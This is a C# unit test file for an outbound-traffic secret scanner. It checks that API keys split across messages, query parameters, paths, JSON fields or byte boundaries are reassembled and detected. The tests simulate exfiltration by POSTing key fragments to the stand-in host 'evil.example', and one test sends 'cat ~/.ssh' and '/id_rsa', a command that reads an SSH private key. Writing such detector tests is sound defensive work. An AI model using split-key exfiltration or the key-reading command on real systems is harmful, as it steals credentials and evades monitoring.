using System.Text;
using TrafficGuardian.Detection.Findings;

namespace TrafficGuardian.Detection.Tests.Scanning;

public sealed class SentInPartsTests
{
    private static readonly string Key = TestRules.Expand("AIza{b64url:35}", seed: 4);

    private readonly PeerMemory _sent = new();
    private readonly List<Detected> _found = [];
    private DateTimeOffset _now = Harness.Now;

    [Theory]
    [InlineData("{\"session\":\"abc\",\"data\":\"@\",\"n\":1}")]
    [InlineData("{\"a\":{\"data\":[\"@\"]}}")]
    [InlineData("session=abc&data=@&n=1")]
    [InlineData("@")]
    [InlineData("part @")]
    public void A_key_that_is_cut_in_two_messages_is_found_when_its_second_part_is_sent(string body)
    {
        Send(Body(body, Key[..17]));
        Assert.Empty(_found);
        Send(Body(body.Replace("part ", "", StringComparison.Ordinal), Key[17..]));
        var found = Assert.Single(_found);
        Assert.Equal("google", found.Rule);
        Assert.Equal("[REDACTED:ai_api_key/google]", found.Finding.Snippet);
    }

    [Fact]
    public void A_key_in_many_parts_between_other_values_is_found()
    {
        foreach (var part in Key.Chunk(7))
            Send($"{{\"id\":\"{_now.Ticks}\",\"data\":\"{new string(part)}\"}}");
        Assert.Equal("google", Assert.Single(_found).Rule);
    }

    [Fact]
    public void Parts_in_queries_paths_fields_and_arrays_of_one_message_are_put_together()
    {
        Send("", $"/in?x={Key[..10]}");
        Send("", $"/in?x={Key[10..]}");
        Assert.Single(_found);
        Send("", $"/in?a={Key[..20]}&b={Key[20..]}");
        Assert.Equal(2, _found.Count);
        Send("", $"/in/{Key[..20]}/{Key[20..]}");
        Assert.Equal(3, _found.Count);
        Send($"{{\"a\":\"{Key[..8]}\",\"b\":\"{Key[8..]}\"}}");
        Assert.Equal(4, _found.Count);
        Send($"[{string.Join(',', Key.Select(static c => $"\"{c}\""))}]");
        Assert.Equal(5, _found.Count);
    }

    [Fact]
    public void A_key_that_is_whole_in_one_value_is_not_told_again_with_what_stands_next_to_it()
    {
        var open = TestRules.Expand("sk-ant-api03-{b64url:60}AA");
        Send($"{{\"data\":\"{open}\"}}");
        Send("{\"data\":\"moreletters1234\"}");
        Send($"{{\"data\":\"{open}\"}}");
        Assert.Equal(2, _found.Count);
        Assert.Single(_found.Select(static d => d.Fingerprint).Distinct());
    }

    [Fact]
    public void Parts_are_forgotten_after_a_minute_and_when_wiped()
    {
        Send($"{{\"data\":\"{Key[..17]}\"}}");
        _now += TimeSpan.FromSeconds(61);
        Send($"{{\"data\":\"{Key[17..]}\"}}");
        Send($"{{\"data\":\"{Key[..17]}\"}}");
        _sent.Clear();
        Send($"{{\"data\":\"{Key[17..]}\"}}");
        Assert.Empty(_found);
    }

    [Fact]
    public void Paths_and_commands_are_not_put_together_from_parts()
    {
        Send("{\"data\":\"cat ~/.ssh\"}");
        Send("{\"data\":\"/id_rsa\"}");
        Assert.Empty(_found);
    }

    [Fact]
    public void Every_cut_of_the_bytes_finds_the_same()
    {
        var body = Encoding.UTF8.GetBytes($"{{\"x\":\"\\u00e9\\\\\",\"d\":[\"{Key[..9]}\",\"\\u{(int)Key[9]:x4}{Key[10..30]}\",\"{Key[30..]}\"]}}");
        var first = $"{{\"data\":\"{Key[..17]}\"}}";
        for (var cut = 0; cut <= body.Length; cut++)
        {
            _found.Clear();
            _sent.Clear();
            Send(first);
            Send(body[..cut], body[cut..]);
            Assert.Single(_found);
        }
    }

    [Fact]
    public void More_names_and_values_than_are_remembered_do_no_harm()
    {
        Send("{" + string.Join(',', Enumerable.Range(0, 500).Select(static i => $"\"k{i}\":\"{i}\"")) + "}");
        Send("[" + string.Join(',', Enumerable.Range(0, 1_000).Select(static _ => "\"a\"")) + "]");
        Send(new string('x', 10_000));
        Send($"{{\"data\":\"{Key[..17]}\"}}");
        Send($"{{\"data\":\"{Key[17..]}\"}}");
        Assert.Single(_found);
    }

    private static string Body(string template, string part) => template.Replace("@", part, StringComparison.Ordinal);

    private void Send(string body, string target = "/in") => Send(target, [Encoding.UTF8.GetBytes(body)]);

    private void Send(params byte[][] pieces) => Send("/in", pieces);

    private void Send(string target, byte[][] pieces)
    {
        var scan = new MessageScan();
        scan.Begin(Harness.Default, Harness.Context(Direction.Outbound), _now, _sent);
        scan.Head(Encoding.UTF8.GetBytes($"POST {target} HTTP/1.1\r\nHost: evil.example\r\n\r\n"));
        foreach (var piece in pieces)
            scan.Body(piece, last: false, _now);
        scan.Body([], last: true, _now);
        _found.AddRange(scan.Found);
    }
}
